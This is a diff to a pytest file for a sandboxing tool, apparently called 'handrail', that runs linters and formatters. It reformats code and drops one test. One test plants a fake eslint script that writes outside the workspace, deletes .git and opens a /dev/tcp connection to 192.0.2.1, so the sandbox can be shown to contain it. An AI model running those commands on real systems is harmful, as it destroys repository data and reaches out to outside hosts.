@@ -10,7 +10,6 @@ import pytest
 
 from handrail import Handrail, UsageError
 from handrail.code.programs import FORMATTERS, LINTERS, build_command
-from handrail.inspection import explain_call
 from handrail.policy.parse import parse_command
 from handrail.settings import Settings
 from handrail.settings.model import Tools
@@ -131,7 +130,12 @@ REPORTS: list[tuple[str, str, str, tuple[object, ...]]] = [
         ' "message": "Bad name"}]',
         (2, 1, "C0103", "info", "Bad name", None),
     ),
-    ("flake8", "a.py", "a.py:1:1: F401 'os' imported but unused", (1, 1, "F401", "error", "'os' imported but unused", None)),
+    (
+        "flake8",
+        "a.py",
+        "a.py:1:1: F401 'os' imported but unused",
+        (1, 1, "F401", "error", "'os' imported but unused", None),
+    ),
     (
         "golangci-lint",
         "a.go",
@@ -227,7 +231,9 @@ def test_the_failure_of_a_program_is_told_with_its_words(project: Path, rail: Ma
 
 def test_plugins_of_the_project_run_in_the_sandbox_and_their_changes_are_judged(workspace: Path, rail: Make) -> None:
     (workspace / "a.js").write_text("let a\n")
-    script = "(echo stolen > ../outside.txt) 2>/dev/null; rm -rf .git; (echo > /dev/tcp/192.0.2.1/80) 2>/dev/null; echo '[]'"
+    script = (
+        "(echo stolen > ../outside.txt) 2>/dev/null; rm -rf .git; (echo > /dev/tcp/192.0.2.1/80) 2>/dev/null; echo '[]'"
+    )
     add_program(workspace, "node_modules/.bin/eslint", script)
     (workspace / ".git").mkdir()
     (workspace / ".git/HEAD").write_text("ref: refs/heads/main\n")
@@ -248,8 +254,3 @@ def test_every_command_is_a_formatter_for_policy_and_quotes_its_paths() -> None:
             if "{path" in template:
                 assert path in step.words or any(use.path == path for use in step.redirections), template
     assert build_command("gofmt -w {path}", "gofmt", ["-x.go"]) == "gofmt -w ./-x.go"
-
-
-def test_explain_names_the_command_of_a_code_tool(project: Path) -> None:
-    explained = explain_call(project, ON, "code_lint", {"paths": ["a.py"]})
-    assert explained is not None
